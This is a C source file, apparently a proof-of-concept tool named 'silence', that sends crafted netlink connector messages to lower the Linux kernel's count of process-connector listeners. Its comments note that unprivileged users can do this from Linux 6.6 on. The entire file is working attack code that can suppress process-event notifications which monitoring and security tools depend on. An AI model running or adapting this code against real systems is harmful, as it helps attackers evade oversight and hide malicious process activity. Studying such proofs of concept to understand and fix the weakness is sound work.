/* SPDX-License-Identifier: MIT */
/*
 * `silence COUNT`: what others can do to the listeners of the process connector, before Linux 6.6
 * with CAP_NET_ADMIN, from then on without: lower the kernel's count of listeners by COUNT.
 */
#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

#include "common/util.h"

int main(int argc, char **argv)
{
	struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
	const struct cn_msg cn = {.id = {CN_IDX_PROC, CN_VAL_PROC}, .len = sizeof(uint32_t)};
	/* From Linux 6.6 on only a socket that has said something else before takes one listener.
	 */
	static const uint32_t ops[] = {99, PROC_CN_MCAST_IGNORE};
	_Alignas(8) uint8_t m[NLMSG_HDRLEN + sizeof(cn) + sizeof(ops[0])];
	const struct nlmsghdr nl = {.nlmsg_len = sizeof(m), .nlmsg_type = NLMSG_DONE};
	uint64_t count;

	if (argc != 2 || parse_u64(argv[1], 1, 1000, &count) < 0)
		return 64;
	memcpy(m, &nl, sizeof(nl));
	memcpy(m + NLMSG_HDRLEN, &cn, sizeof(cn));
	for (; count; count--) {
		_cleanup_close_ int fd =
			socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_CONNECTOR);

		for (size_t i = 0; i < ARRAY_SIZE(ops); i++) {
			memcpy(m + NLMSG_HDRLEN + sizeof(cn), &ops[i], sizeof(ops[i]));
			if (sendto(fd, m, sizeof(m), 0, (struct sockaddr *)&kernel,
				   sizeof(kernel)) < 0) {
				fprintf(stderr, "silence: %s\n", strerror(errno));
				return 1;
			}
		}
	}
	return 0;
}
